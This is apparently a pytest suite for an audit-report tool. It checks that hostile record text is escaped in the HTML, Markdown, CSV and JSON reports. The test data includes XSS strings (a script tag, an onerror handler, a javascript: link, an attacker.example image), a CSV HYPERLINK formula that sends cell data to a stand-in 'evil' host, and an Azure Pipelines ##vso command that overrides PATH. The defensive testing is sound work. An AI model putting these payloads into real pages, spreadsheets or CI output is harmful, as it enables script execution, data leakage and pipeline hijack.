"""Hostile record text in ``portcullis audit report``: every format stays valid for a strict
reader (an HTML parser, a CommonMark renderer, a CSV reader, a strict JSON parser), the text is
shown (escaped, never dropped or acted on) and the report is written or fails cleanly."""

from __future__ import annotations

import csv
import io
import json
import math
import os
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from audit_events import write
from markdown_it import MarkdownIt

from webhook import cli
from webhook.audit import report, report_render

WINDOW = report.Window(None, None, None)
# markup, a script, an event handler, a javascript: link, an auto-loading image, a table pipe,
# code and emphasis markers, an entity, a CDATA end and a line break
MARKUP = (
    "x</td></style><script>alert(1)</script><img src=x onerror=alert(1)>"
    "[a](javascript:alert(1))![t](http://attacker.example/t.png)|`c`*e*_u_~~s~~&lt;i&gt;]]>\nnext"
)


def denial(name: str, *, user: str = "alice", message: str = "privileged", quotas: Any = None) -> dict[str, Any]:
    content: dict[str, Any] = {
        "kind": "Pod",
        "namespace": "web",
        "name": name,
        "user": user,
        "allowed": False,
        "result": "denied",
        "findings": [
            {"check": "pss:privileged", "mode": "enforce", "container": "c", "path": "spec", "message": message}
        ],
        "warnings": [],
        "images": ["registry.example.com/web/app:1"],
    }
    if quotas is not None:
        content["context"] = {"gpu": {"quotas": quotas}}
    return content


def alert(priority: str, rule: str = "Terminal shell", pod: str = "p") -> dict[str, Any]:
    return {
        "rule": rule,
        "priority": priority,
        "hostname": "node-1",
        "output": "shell",
        "output_fields": {"k8s.ns.name": "web", "k8s.pod.name": pod, "container.image.repository": "r/app"},
    }


def build(tmp_path: Path, events: list[tuple[str, str, dict[str, Any]]]) -> report.ReportData:
    write(tmp_path / "log", events)
    return report.build([tmp_path / "log"], window=WINDOW, verify_logs=False)


def strict_json(text: str) -> Any:
    def no_constants(name: str) -> Any:
        raise ValueError(f"{name} is not JSON")

    return json.loads(text, parse_constant=no_constants)


# --- charts -----------------------------------------------------------------------------------------


def test_chart_labels_are_text_not_mathtext_or_hidden(tmp_path: Path) -> None:
    """A ``$`` in a label made matplotlib parse TeX (an unknown command: the report crashed) and a
    leading ``_`` hid the series from the legend."""
    quotas = [{"scope": "team", "key": "$\\foo{$", "used": 1, "limit": 2}]
    data = build(
        tmp_path,
        [
            ("2026-11-01T10:00:00.000000Z", "alert", alert("$\\foo{$")),
            ("2026-11-01T10:01:00.000000Z", "alert", alert("_hidden")),
            ("2026-11-01T10:02:00.000000Z", "alert", alert("Bell\x07\x1b[2J")),
            ("2026-11-01T10:03:00.000000Z", "admission", denial("p", quotas=quotas)),
        ],
    )
    html = report_render.to_html(data)
    assert "$\\foo{$" in html
    assert html.count("_hidden") >= 2  # the table and the legend
    assert "team:$\\foo{$ used" in html
    assert "Bell\\x07\\x1b[2J" in html
    assert "\x07" not in html
    assert "\x1b" not in html


# --- HTML -------------------------------------------------------------------------------------------


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attrs: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attrs += attrs

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_html_shows_hostile_text_as_text(tmp_path: Path) -> None:
    data = build(
        tmp_path,
        [
            ("2026-11-01T10:00:00.000000Z", "admission", denial(MARKUP, user=MARKUP, message=MARKUP)),
            ("2026-11-01T10:01:00.000000Z", "alert", alert(MARKUP, rule=MARKUP, pod=MARKUP)),
            ("2026-11-01T10:02:00.000000Z", "admission", denial("nul\x00name\x0c")),
        ],
    )
    page = _Collect()
    page.feed(report_render.to_html(data))
    page.close()
    assert not page.tags & {"script", "img", "iframe", "object", "embed", "a", "link", "base", "form"}
    assert not [name for name, _ in page.attrs if name.startswith("on")]
    assert not [v for _, v in page.attrs if v and "javascript:" in v.lower()]
    text = "".join(page.text)
    assert MARKUP.replace("\n", "") in text.replace("\n", "")
    assert "nul\\x00name\\x0c" in text  # NUL is dropped by an HTML parser: shown escaped instead


# --- Markdown ---------------------------------------------------------------------------------------


def _tokens(markdown: str) -> list[Any]:
    md = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    flat = []
    for token in md.parse(markdown):
        flat.append(token)
        flat += token.children or []
    return flat


def test_markdown_renders_hostile_text_as_plain_text(tmp_path: Path) -> None:
    data = build(
        tmp_path,
        [
            ("2026-11-01T10:00:00.000000Z", "admission", denial(MARKUP, user=MARKUP, message=MARKUP)),
            ("2026-11-01T10:01:00.000000Z", "alert", alert("Notice", rule=MARKUP)),
        ],
    )
    tokens = _tokens(report_render.to_markdown(data))
    kinds = {t.type for t in tokens}
    assert not kinds & {"html_inline", "html_block", "link_open", "image", "em_open", "strong_open", "s_open"}
    # every row of a table has as many cells as its header
    cells, header = 0, None
    for t in tokens:
        if t.type == "tr_open":
            cells = 0
        elif t.type in ("th_open", "td_open"):
            cells += 1
        elif t.type == "tr_close":
            header = cells if header is None else header
            assert cells == header
        elif t.type == "table_close":
            header = None
    shown = "".join(t.content for t in tokens if t.type in ("text", "code_inline"))
    assert MARKUP.replace("\n", " ") in shown  # the user, as the reader sees it


# --- CSV --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("lead", ["\u00a0", "\u3000", "\u200b", "\ufeff", "\x00", "\x1c", "\u2028"])
def test_csv_formula_after_invisible_leading_characters_is_neutralised(lead: str) -> None:
    evil = lead + '=HYPERLINK("http://evil/"&A1)'
    assert report_render.csv_cell(evil) == "'" + evil


def test_csv_newlines_stay_inside_their_cell(tmp_path: Path) -> None:
    data = build(tmp_path, [("2026-11-01T10:00:00.000000Z", "admission", denial("a\nb\r\n=1+1\n", user="u\r"))])
    rows = list(csv.reader(io.StringIO(report_render.to_csv(data))))
    assert all(len(row) == 6 for row in rows)
    (workload,) = [r for r in rows if r[1] == "denials_by_workload"]
    assert workload[2] == "web/Pod/a\nb\r\n=1+1\n"


# --- JSON -------------------------------------------------------------------------------------------


def test_json_never_holds_infinity_and_huge_numbers_do_not_crash(tmp_path: Path) -> None:
    quotas = [
        {"scope": "namespace", "key": "web", "used": 1.5e308, "reserved": 1.5e308, "limit": 4},  # sum overflows
        {"scope": "team", "key": "ml", "used": "1e999", "limit": "10" + "0" * 400},  # too big for a float
    ]
    data = build(tmp_path, [("2026-11-01T10:00:00.000000Z", "admission", denial("p", quotas=quotas))])
    for fmt in report_render.FORMATS:
        report_render.render(data, fmt)
    usage = strict_json(report_render.to_json(data))["gpu"]["usage_by_day"]["2026-11-01"]
    for value in (v for scope in usage.values() for v in scope.values()):
        assert value is None or math.isfinite(value)


# --- writing ----------------------------------------------------------------------------------------


def _report_cli(log: Path, *args: str) -> tuple[int, str]:
    err = io.StringIO()
    from contextlib import redirect_stderr

    with redirect_stderr(err):
        code = cli.main(["audit", "report", "--log", str(log), *args])
    return code, err.getvalue()


def test_a_report_that_cannot_be_written_is_a_clean_error(tmp_path: Path) -> None:
    write(tmp_path / "log", [("2026-11-01T10:00:00.000000Z", "admission", denial("p"))])
    (tmp_path / "dir").mkdir()
    targets = [tmp_path / "dir"] + ([Path("/dev/full")] if os.path.exists("/dev/full") else [])
    for target in targets:
        code, err = _report_cli(tmp_path / "log", "--format", "csv", "--output", str(target))
        assert code == 2
        assert err.startswith(f"portcullis: error: cannot write the report to {target}: "), err
        assert "internal error" not in err


def test_an_undecodable_log_directory_name_does_not_break_the_report(tmp_path: Path) -> None:
    log = Path(os.fsdecode(os.fsencode(tmp_path) + b"/log\xff"))
    write(log, [("2026-11-01T10:00:00.000000Z", "admission", denial("p"))])
    for fmt in report_render.FORMATS:
        target = tmp_path / f"report.{fmt}"
        code, err = _report_cli(log, "--format", fmt, "--output", str(target))
        assert code == 0, err
        text = target.read_bytes().decode("utf-8")  # strict
        assert "log\\xff" in text.replace("\\\\", "\\")
        if fmt == "json":
            strict_json(text)


@pytest.mark.parametrize("fmt", report_render.FORMATS)
def test_no_report_format_carries_an_azure_pipelines_logging_command(tmp_path: Path, fmt: str) -> None:
    """The Azure Pipelines agent runs ``##vso[...]`` found anywhere in a line of a step's output,
    so a report printed in a pipeline must not carry one from a record; HTML and JSON readers
    still get the exact text (``&#91;``, ``\\u005b``)."""
    command = "##vso[task.setvariable variable=PATH]/tmp/evil"
    data = build(
        tmp_path,
        [
            ("2026-11-01T10:00:00.000000Z", "admission", denial("app" + command, user="u" + command, message=command)),
            ("2026-11-01T10:01:00.000000Z", "alert", alert("Warning", rule="r" + command, pod="p" + command)),
        ],
    )
    text = report_render.render(data, fmt)
    assert "##vso[" not in text.lower()
    if fmt == "json":
        assert "app" + command in json.dumps(strict_json(text), ensure_ascii=False)
    if fmt == "html":
        page = _Collect()
        page.feed(text)
        page.close()
        assert "app" + command in "".join(page.text)
